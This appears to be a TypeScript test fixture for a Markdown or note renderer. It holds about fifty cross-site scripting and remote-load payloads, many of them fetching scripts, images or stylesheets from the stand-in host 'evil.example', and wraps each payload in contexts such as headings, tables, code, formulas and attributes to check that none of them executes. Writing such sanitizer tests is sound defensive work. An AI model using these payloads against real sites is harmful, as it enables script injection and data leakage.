// What a note can try in order to run a script or to fetch something, in every place where a note's text can stand.

/** What each script says, where the test hears it. */
const say = "console.log('note ran',location.href)";
const server = 'https://evil.example';

const payloads: readonly string[] = [
  `<script>${say}</script>`,
  `<ScRiPt src="${server}/a.js"></ScRiPt>`,
  `<img src=x onerror="${say}">`,
  `<img src="${server}/a.png" onload="${say}">`,
  `<img srcset="${server}/b.png 2x" alt=x>`,
  `<svg onload="${say}"><circle r=1 /></svg>`,
  `<svg><script>${say}</script></svg>`,
  `<svg><a xlink:href="javascript:${say}"><text y=9>x</text></a></svg>`,
  `<svg><image href="${server}/c.png" /></svg>`,
  `<math><mtext></table><img src=x onerror="${say}"></mtext></math>`,
  `<math href="javascript:${say}">x</math>`,
  `<iframe src="javascript:${say}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${say}&lt;/script&gt;"></iframe>`,
  `<object data="${server}/d.swf"></object>`,
  `<embed src="${server}/e.swf">`,
  `<base href="${server}/">`,
  `<meta http-equiv="refresh" content="0;url=${server}/f">`,
  `<link rel="stylesheet" href="${server}/g.css">`,
  `<style>@import "${server}/h.css";</style>`,
  `<div style="background:url(${server}/i.png)">x</div>`,
  `<form action="${server}/j"><button formaction="javascript:${say}">x</button></form>`,
  `<details open ontoggle="${say}"><summary>x</summary></details>`,
  `<video src="${server}/k.mp4" onerror="${say}"></video>`,
  `<audio src=x onerror="${say}"></audio>`,
  `<input autofocus onfocus="${say}">`,
  `<body onload="${say}">`,
  `<a href="java&#115;cript:${say}">x</a>`,
  `<a href=" &#1;javascript:${say}">x</a>`,
  `<a href="data:text/html,<script>${say}</script>">x</a>`,
  `<a href="command:workbench.action.terminal.new">x</a>`,
  `[x](javascript:${say})`,
  `[x](JaVaScRiPt&colon;alert(1))`,
  `![x](javascript:alert(1))`,
  `![x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)`,
  `![" onerror="${say}](${server}/l.png)`,
  `![x](${server}/m.png "\" onload=\"${say}")`,
  `<javascript:alert(1)>`,
  `$\\href{javascript:alert(1)}{x}$`,
  `$\\includegraphics{${server}/n.png}$`,
  `$\\htmlData{x=" onclick="alert(1)}{x}$`,
  `$\\htmlStyle{background:url(${server}/o.png)}{x}$`,
  `$\\text{<img src=x onerror=${say}>}$`,
  `*x*{: onclick="${say}" style="background:url(${server}/p.png)" }`,
  `[[x" onclick="${say}]]`,
  `<p title="</p><img src=x onerror=${say}>">x</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${say}>"></noscript>`,
  `<!--><img src=x onerror="${say}">-->`,
  `<kbd onmouseover="${say}" onclick="${say}">x</kbd>`,
];

const indented = (text: string): string => text.replaceAll('\n', ' ');

/** By name, where a payload stands; blank lines around each. */
export const scriptContexts: Readonly<Record<string, (payload: string) => string>> = {
  paragraph: (payload) => payload,
  sentence: (payload) => `words ${payload} and 字${payload}字`,
  heading: (payload) => `### ${payload}`,
  list: (payload) => `- ${payload}\n  - [ ] ${payload}`,
  quote: (payload) => `> [!NOTE]\n> ${payload}`,
  table: (payload) => `| a | b |\n| --- | --- |\n| ${indented(payload)} | ${indented(payload)} |`,
  code: (payload) => `\`${payload}\`\n\n\`\`\`html title="${payload}"\n${payload}\n\`\`\``,
  formula: (payload) => `$$\n${payload}\n$$\n\n$${payload}$`,
  link: (payload) => `[${payload}](a.md "${payload}") ![${payload}](b.png)`,
  element: (payload) => `<details><summary>${payload}</summary>\n\n${payload}\n\n</details>`,
  attribute: (payload) => `<img alt='${payload}' title="${payload}" src="c.png">`,
};

/** A note with every payload in one context. */
export function scriptNote(context: string): string {
  const place = scriptContexts[context] ?? String;
  return `${payloads.map(place).join('\n\n')}\n\n## end of ${context}`;
}
